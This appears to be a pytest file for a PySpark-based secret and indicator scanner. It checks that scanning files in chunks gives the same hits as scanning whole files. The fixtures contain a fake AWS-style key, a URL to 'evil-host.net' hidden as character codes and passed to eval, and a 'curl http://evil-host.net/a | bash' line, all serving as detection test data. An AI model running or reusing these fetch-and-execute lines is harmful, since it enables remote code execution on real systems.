import pytest
from pyspark.sql import functions as F

from glintscan.catalogue import Rule
from glintscan.operators import detect, parts
from glintscan.sources import parts as cut
from glintscan.sources.parts import cut_files, read_parts

KEY = "AKIAJ5ZCGRE4XPOLSA7"
CODES = ", ".join(str(ord(c)) for c in "http://evil-host.net/payload")
FIELDS = ["row_kind", "repo", "file", "type", "description", "match_content", "confidence", "file_context", "stage", "line_no", "rule_no", "match_no"]
WRAPPED = CODES.replace(", ", ",\n")
TEXTS = {
    "src/a.js": f"/* open\n{KEY}A\nplain\nplain\n{KEY}B end */\nk = '{KEY}C'\n// {KEY}D\n/* x */ {KEY}E\n{KEY}C\n",
    "src/b.py": f"'''one'''\nx = 1\n'''\n{KEY}A\ny = 2\n# {KEY}B\n'''\n# {KEY}C\n{KEY}D\n\"\"\"\n'''two'''\n# {KEY}F\n\"\"\"\n# {KEY}G\n",
    "src/c.js": f"var c = [{WRAPPED}];\nvar d = [1, 2\nvar e = [{WRAPPED}\n]; eval(e)\n[{WRAPPED},\nx]\n",
    "src/d.sh": "curl http://evil-host.net/a | bash\r\nsee http://evil-host.net/a\r\n\r\n\r\nhttp://evil-host.net/b\r\n",
    "src/e.txt": "", "src/f.js": f"{KEY}Z", "src/g.json": "\n\n\n[" + ",\n".join("77" for _ in range(40)) + "]\n[[" + CODES + "]]",
    "src/h.js": f"/*\n\n\n\n\n\n\n\n// {KEY}A\n", "src/i.csv": "\n".join("1,2,3" for _ in range(60)) + "\n],[" + "9,\n" * 9 + "]",
}


def rows_of(df):
    return sorted([tuple(r) for r in df.select(*FIELDS).collect()], key=str)


@pytest.mark.parametrize("part_chars", [1, 7, 40, 1 << 20])
def test_parts_give_the_hits_of_whole_files(spark, files, part_chars):
    whole = files(TEXTS)
    assert rows_of(parts.hits(cut_files(whole, part_chars))) == rows_of(detect.hits(whole))


def test_own_rules_and_first_of_a_kind(spark, files):
    whole = files({"a.js": "T-1\nT-2\n/*\nT-1\nT-3 */\nT-4", "b.js": "T-1"})
    rules = [Rule("Ticket", "T-[0-9]"), Rule("Other command", "[0-9]+$")]
    assert rows_of(parts.hits(cut_files(whole, 1), rules)) == rows_of(detect.hits(whole, rules))


def test_order_within_a_file_is_kept(spark, files):
    whole = files({"a.sh": "\n".join(f"http://evil-host.net/{i} '{i:020x}'" for i in range(50))})
    order = lambda df: [r.match_content for r in df.where("row_kind = 'ioc'").orderBy("stage", "line_no", "pos", "match_no").collect()]
    assert order(parts.hits(cut_files(whole, 99))) == order(detect.hits(whole))


def test_cut_files_lines_and_offsets(spark, files):
    whole = files({p: t for p, t in TEXTS.items()})
    for row in cut_files(whole, 11).collect():
        text = TEXTS[row.path]
        assert text[row.part:row.part + len(row.content)] == row.content
        assert text[:row.part].count("\n") == row.first_line and (row.part == 0 or text[row.part - 1] == "\n")
    assert cut_files(spark.createDataFrame([("r", "a", "a", None)], "repo string, path string, name string, content string")).count() == 0


def test_a_file_is_read_by_many_tasks(spark, files, tmp_path):
    """One file in many blocks: the same hits, and more than one task reads it."""
    body = "".join(f"line {i}\n" + (f"/* {KEY}{i % 10} \n" if i % 97 == 0 else "") + (f"k{KEY}{i % 7}*/ {KEY}X\n" if i % 61 == 0 else "") + (f"v = [{WRAPPED}]\n" if i % 50 == 0 else "") for i in range(3000))
    folder = tmp_path / "tree" / "src"
    folder.mkdir(parents=True)
    (folder / "big.js").write_text(body, newline="")
    (folder / "small.py").write_text("'''\n# " + KEY + "A\n'''\nümläut " + KEY + "B", newline="")
    old = {k: spark.conf.get(k) for k in ("spark.sql.files.maxPartitionBytes", "spark.sql.files.openCostInBytes")}
    try:
        spark.conf.set("spark.sql.files.maxPartitionBytes", "4096")
        spark.conf.set("spark.sql.files.openCostInBytes", "1")
        read = read_parts(spark, str(tmp_path / "tree"), "r", part_chars=500)
        rows = read.where(F.col("name") == "big.js").orderBy("part").collect()
        assert "\n".join(r.content for r in rows) == body[:-1] and len(rows) > 20
        assert [r.first_line for r in rows] == [body[:r.part].count("\n") for r in rows]
        blocks = spark.read.text(str(folder / "big.js")).select("_metadata.file_block_start").distinct().count()
        assert blocks > 5
        got = rows_of(parts.hits(read))
    finally:
        for k, v in old.items():
            spark.conf.set(k, v)
    whole = files({"src/big.js": body, "src/small.py": (folder / "small.py").read_text()})
    assert got == rows_of(detect.hits(whole)) and len(got) > 50


def test_state_moves_no_content(spark, files):
    """The plan after the written candidates has no column of contents, and the candidates hold none of a clean file."""
    clean = "all is well here\n" * 200
    kept = parts.candidates(cut_files(files({"a.js": clean})), ())
    assert kept.count() == 0
    plan = parts.hits(cut_files(files(TEXTS), 40))._jdf.queryExecution().executedPlan().toString()
    assert "content#" not in plan.replace("match_content#", "")
    assert cut.PART_CHARS == 1 << 20
